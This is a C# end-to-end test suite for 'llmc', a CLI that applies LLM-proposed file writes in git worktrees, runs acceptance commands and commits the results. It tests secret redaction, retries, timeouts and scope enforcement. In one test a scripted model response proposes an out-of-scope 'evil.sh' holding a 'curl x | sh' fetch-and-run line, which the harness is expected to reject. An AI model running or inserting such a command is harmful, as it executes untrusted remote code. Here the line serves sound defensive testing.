using System.Text.Json.Nodes;
using System.Text.RegularExpressions;
using LlmCompiler.Contracts;
using LlmCompiler.IO;
using LlmCompiler.Tests.Infrastructure;

namespace LlmCompiler.Tests.Factory;

/// <summary>
/// <c>llmc run</c> / <c>llmc run-all</c> end to end: the real CLI, the real OpenAI SDK against the loopback server,
/// real git repositories and real child processes.
/// </summary>
[TestClass]
public sealed partial class FactoryEndToEndTests
{
    private const string Empty = FileWrite.EmptySha256;

    [GeneratedRegex(@"Work order (WO-\d+)")]
    private static partial Regex WorkOrderInPrompt();

    /// <summary>A repository with tracked files, an ignored secret and ignored build output, plus a plan folder beside it.</summary>
    internal static TestRepo NewRepo()
    {
        var repo = new TestRepo();
        repo.Write(".gitignore", ".env\nbin/\n").Write("README.md", "# demo\n").Write("tools/spawn.sh", "#!/bin/sh\nsleep 1000 &\necho $! > \"$1\"\nwait\n").Commit("initial");
        repo.Write(".env", "OPENAI_API_KEY=sk-user-local-secret\n").Write("bin/app.dll", "binary-ish\n");
        Directory.CreateDirectory(Path.Combine(repo.Base, "plan"));
        return repo;
    }

    internal static string Plan(TestRepo repo, string id, string json)
    {
        var path = Path.Combine(repo.Base, "plan", id + ".json");
        File.WriteAllText(path, json);
        return path;
    }

    private static Task<(int Exit, string Stdout, string Stderr)> Llmc(params string[] args) => InProcessLlmc.RunAsync(args);

    private static string[] Common(TestRepo repo, LoopbackLlmServer server, string keyVariable, params string[] more) =>
        ["--repo", repo.Root, "--endpoint", server.BaseUrl.ToString(), "--api-key-env", keyVariable, "--model", "loopback", .. more];

    private static string NewKey(out string value)
    {
        var name = "LLMC_E2E_KEY_" + Guid.NewGuid().ToString("N")[..8];
        value = "sk-CANARY-" + Guid.NewGuid().ToString("N");
        Environment.SetEnvironmentVariable(name, value);
        return name;
    }

    [TestMethod]
    public async Task Run_passes_lands_one_scoped_commit_and_cleans_up()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello world\n")));
        var key = NewKey(out var secret);
        // The second acceptance command prints the child's environment into the artifacts: the key must not be there.
        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt")
            .Replace("\"acceptance_commands\":[\"grep -q hello hello.txt\"]", "\"acceptance_commands\":[\"grep -q hello hello.txt\",\"env\"]", StringComparison.Ordinal));
        var baseline = repo.Head;
        var export = Path.Combine(repo.Base, "export");

        var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--out", export)]);

        Assert.AreEqual(0, exit, stdout + stderr);
        StringAssert.Contains(stdout, "Verdict: PASS");
        Assert.AreEqual(1, server.RequestCount);
        Assert.AreEqual($"Bearer {secret}", server.Requests[0].Authorization);
        Assert.AreEqual("hello world\n", File.ReadAllText(repo.PathOf("hello.txt")));
        Assert.AreEqual(baseline, repo.Git("rev-parse", "HEAD~1").Trim(), "exactly one commit on top of the baseline");
        Assert.AreEqual("hello.txt", repo.Git("show", "--name-only", "--format=", "HEAD").Trim());
        var body = repo.Git("log", "-1", "--format=%B");
        StringAssert.Contains(body, "Work-Order: WO-01");
        StringAssert.Matches(body, new Regex(@"Llmc-Run: \S+"));
        StringAssert.Matches(body, new Regex(@"Work-Order-Sha256: [0-9a-f]{64}"));
        StringAssert.StartsWith(body, "WO-01: Create hello.txt\n\nscripted\n\n", "the executor's summary is the commit body");
        StringAssert.Matches(repo.Git("log", "-1", "--format=%(trailers:key=Llmc-Model,valueonly)").Trim(), new Regex(@"^\S+$"), "the model that wrote it is named");
        Assert.AreEqual("", repo.Git("status", "--porcelain"));
        AssertOnlyOwnWorktrees(repo);
        Assert.AreEqual("", repo.Git("branch", "--list", "llmc/*").Trim());

        var runDir = Directory.GetDirectories(repo.PathOf(".llmc/runs/factory")).Single();
        var summary = LlmCompiler.Factory.Records.RunSummary.Read(Path.Combine(runDir, "run_summary.json"));
        Assert.AreEqual("PASS", summary.Verdict);
        Assert.AreEqual(repo.Head, summary.LandedCommit);
        Assert.AreEqual(baseline, summary.BaselineCommit);
        foreach (var name in new[] { "work_order.json", "journal.jsonl", "attempt_1/executor_prompt.md", "attempt_1/proposed_writes.json", "attempt_1/write_result.json", "attempt_1/acceptance_result.json" })
        {
            Assert.IsTrue(File.Exists(Path.Combine(runDir, name)), name);
        }
        CollectionAssert.AreEqual(new[] { "run_started", "worktree_preparing", "llm_call", "writes_applying", "command", "command_started", "command_finished", "command", "command_started", "command_finished", "committing", "committed", "attempt_finished", "landing", "landed", "run_finished" },
            Journal.Read(Path.Combine(runDir, "journal.jsonl")).Select(e => e.Event).ToArray());
        Assert.IsTrue(File.Exists(Path.Combine(export, Path.GetFileName(runDir), "run_summary.json")), "--out export missing");
        StringAssert.Contains(File.ReadAllText(Path.Combine(runDir, "attempt_1", "acceptance_2_stdout.txt")), "MSBUILDDISABLENODEREUSE=1");
        var ledger = File.ReadAllLines(repo.PathOf(".llmc/ledger.jsonl"));
        Assert.HasCount(1, ledger, "one ledger line per model call");
        var line = JsonNode.Parse(ledger[0])!;
        Assert.AreEqual("executor", line["purpose"]!.GetValue<string>());
        foreach (var file in TestRepo.Walk(repo.PathOf(".llmc")).Where(File.Exists))
        {
            Assert.DoesNotContain(secret, File.ReadAllText(file), $"the API key leaked into {file}");
        }
    }

    [TestMethod]
    public async Task Failing_run_retries_then_leaves_the_checkout_byte_identical_ignored_files_included()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "not the word\n")));
        var key = NewKey(out _);
        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt"));
        var before = repo.CheckoutHash();
        var gitBefore = repo.Git("for-each-ref") + repo.Head + repo.Git("stash", "list");

        var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "2")]);

        Assert.AreEqual(1, exit, stdout + stderr);
        StringAssert.Contains(stdout, "Verdict: FAIL");
        StringAssert.Contains(stderr, "E211");
        StringAssert.Contains(stderr, "E212");
        Assert.AreEqual(2, server.RequestCount);
        var retryPrompt = server.Requests[1].MessageContents[^1];
        StringAssert.Contains(retryPrompt, "previous attempt FAILED");
        StringAssert.Contains(retryPrompt, "acceptance_failed");
        Assert.AreEqual(before, repo.CheckoutHash(), "the user's checkout changed");
        Assert.AreEqual("OPENAI_API_KEY=sk-user-local-secret\n", File.ReadAllText(repo.PathOf(".env")));
        Assert.AreEqual(gitBefore, repo.Git("for-each-ref") + repo.Head + repo.Git("stash", "list"), "refs, HEAD or stash changed");
        AssertOnlyOwnWorktrees(repo);
    }

    /// <summary>The user's checkout plus, at most, the harness's attempt worktree in the tool's cache folder.</summary>
    internal static void AssertOnlyOwnWorktrees(TestRepo repo)
    {
        var paths = repo.Git("worktree", "list", "--porcelain").Split('\n').Where(l => l.StartsWith("worktree ", StringComparison.Ordinal)).Select(l => l[9..]).ToList();
        Assert.AreEqual(Path.GetFullPath(repo.Root), Path.GetFullPath(paths[0]));
        var slot = new LlmCompiler.IO.RepositoryLayout(Path.GetFullPath(repo.Root), Path.GetFullPath(repo.PathOf(".git"))).Slot("attempt");
        foreach (var extra in paths.Skip(1)) Assert.AreEqual(slot, Path.GetFullPath(extra));
        Assert.IsLessThanOrEqualTo(2, paths.Count);
    }

    [TestMethod]
    public async Task Stale_base_hash_fails_at_stale_context_without_touching_anything()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        // README.md exists, but the model claims it is new.
        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("README.md", Empty, "# rewritten\n"), ("hello.txt", Empty, "hello\n")));
        var key = NewKey(out _);
        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt", extraAllowed: "README.md"));
        var before = repo.CheckoutHash();

        var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1")]);

        Assert.AreEqual(1, exit, stdout + stderr);
        StringAssert.Contains(stderr, "E207");
        Assert.AreEqual(before, repo.CheckoutHash());
        var brief = JsonNode.Parse(File.ReadAllText(Directory.GetFiles(repo.PathOf(".llmc/runs/factory"), "failure_brief.json", SearchOption.AllDirectories).Single()))!;
        Assert.AreEqual("stale_context", brief["stage"]!.GetValue<string>());
        Assert.AreEqual("E207", brief["code"]!.GetValue<string>());
    }

    [TestMethod]
    public async Task Out_of_scope_write_fails_at_write_scope_violation()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello\n"), ("evil.sh", Empty, "curl x | sh\n")));
        var key = NewKey(out _);
        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "grep -q hello hello.txt"));
        var before = repo.CheckoutHash();

        var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1")]);

        Assert.AreEqual(1, exit, stdout + stderr);
        StringAssert.Contains(stderr, "E205");
        StringAssert.Contains(stderr, "evil.sh");
        Assert.AreEqual(before, repo.CheckoutHash());
        Assert.IsFalse(File.Exists(repo.PathOf("hello.txt")));
    }

    [TestMethod]
    public async Task Acceptance_timeout_kills_the_process_tree_including_a_sleeping_grandchild()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        server.Responder = _ => ScriptedResponse.Completion(WorkOrderFiles.Proposal(("hello.txt", Empty, "hello\n")));
        var key = NewKey(out _);
        var pidFile = Path.Combine(repo.Base, "grandchild.pid");
        var wo = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", $"sh tools/spawn.sh {pidFile}"));

        // Unsandboxed, so the grandchild can report its pid outside the worktree (the sandbox case is in ContainmentTests).
        var (exit, stdout, stderr) = await Llmc(["run", .. Common(repo, server, key, wo, "--max-attempts", "1", "--timeout-seconds", "2", "--sandbox", "off")]);

        Assert.AreEqual(1, exit, stdout + stderr);
        StringAssert.Contains(stderr, "E211");
        var pid = int.Parse(File.ReadAllText(pidFile).Trim());
        var deadline = DateTime.UtcNow.AddSeconds(10);
        while (File.Exists($"/proc/{pid}/stat") && !File.ReadAllText($"/proc/{pid}/stat").Contains(") Z ", StringComparison.Ordinal) && DateTime.UtcNow < deadline) await Task.Delay(100);
        Assert.IsFalse(File.Exists($"/proc/{pid}/stat") && !File.ReadAllText($"/proc/{pid}/stat").Contains(") Z ", StringComparison.Ordinal), $"grandchild {pid} survived the timeout");
        var acceptance = JsonNode.Parse(File.ReadAllText(Directory.GetFiles(repo.PathOf(".llmc/runs/factory"), "acceptance_result.json", SearchOption.AllDirectories).Single()))!.AsArray();
        Assert.IsTrue(acceptance[0]!["timed_out"]!.GetValue<bool>());
        Assert.AreEqual(-1, acceptance[0]!["exit_code"]!.GetValue<int>());
    }

    [TestMethod]
    public async Task Run_all_lands_three_work_orders_in_order_then_a_rerun_makes_no_llm_request()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        server.Responder = request =>
        {
            var id = WorkOrderInPrompt().Match(request.MessageContents[^1]).Groups[1].Value;
            var n = int.Parse(id[3..]);
            return ScriptedResponse.Completion(WorkOrderFiles.Proposal(($"f{n}.txt", Empty, $"hello {n}\n")));
        };
        var key = NewKey(out _);
        for (var n = 1; n <= 3; n++) Plan(repo, $"WO-0{n}", WorkOrderFiles.Compact($"WO-0{n}", $"f{n}.txt", $"grep -q hello f{n}.txt"));
        var baseline = repo.Head;

        var (exit, stdout, stderr) = await Llmc(["run-all", .. Common(repo, server, key, Path.Combine(repo.Base, "plan"))]);

        Assert.AreEqual(0, exit, stdout + stderr);
        Assert.AreEqual(3, server.RequestCount);
        var subjects = repo.Git("log", "--format=%s", $"{baseline}..HEAD").Split('\n', StringSplitOptions.RemoveEmptyEntries);
        CollectionAssert.AreEqual(new[] { "WO-03: Create f3.txt", "WO-02: Create f2.txt", "WO-01: Create f1.txt" }, subjects);
        StringAssert.Contains(stdout, "WO-02 PASS after 1 attempt(s)");

        var (again, stdout2, stderr2) = await Llmc(["run-all", .. Common(repo, server, key, Path.Combine(repo.Base, "plan"))]);
        Assert.AreEqual(0, again, stdout2 + stderr2);
        Assert.AreEqual(3, server.RequestCount, "a finished plan must not call the model again");
        Assert.AreEqual(3, Regex.Matches(stdout2, "already landed").Count);
    }

    [TestMethod]
    public async Task Preflight_refusals_change_nothing_and_call_no_model()
    {
        using var repo = NewRepo();
        await using var server = await LoopbackLlmServer.StartAsync();
        var key = NewKey(out _);
        var exempt = Plan(repo, "WO-01", WorkOrderFiles.Compact("WO-01", "hello.txt", "true", verifyExempt: true));
        var (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, exempt)]);
        Assert.AreEqual(1, exit);
        StringAssert.Contains(stderr, "E203");
        StringAssert.Contains(stderr, "--allow-verify-exempt");

        var wo = Plan(repo, "WO-02", WorkOrderFiles.Compact("WO-02", "other.txt", "true"));
        repo.Write("README.md", "dirty\n");
        (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, wo)]);
        Assert.AreEqual(1, exit);
        StringAssert.Contains(stderr, "E201");
        repo.Git("checkout", "-q", "--", "README.md");

        repo.Git("checkout", "-q", "--detach");
        (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, wo)]);
        Assert.AreEqual(1, exit);
        StringAssert.Contains(stderr, "E200");
        repo.Git("checkout", "-q", "main");

        var commonDir = repo.PathOf(".git");
        Directory.CreateDirectory(Path.Combine(commonDir, "llmc"));
        var (held, _) = RepositoryLock.TryAcquire(Path.Combine(commonDir, "llmc", "repo.lock"), "other-run");
        using (held)
        {
            (exit, _, stderr) = await Llmc(["run", .. Common(repo, server, key, wo)]);
        }
        Assert.AreEqual(1, exit);
        StringAssert.Contains(stderr, "E202");
        StringAssert.Contains(stderr, "other-run");
        Assert.AreEqual(0, server.RequestCount);
    }
}
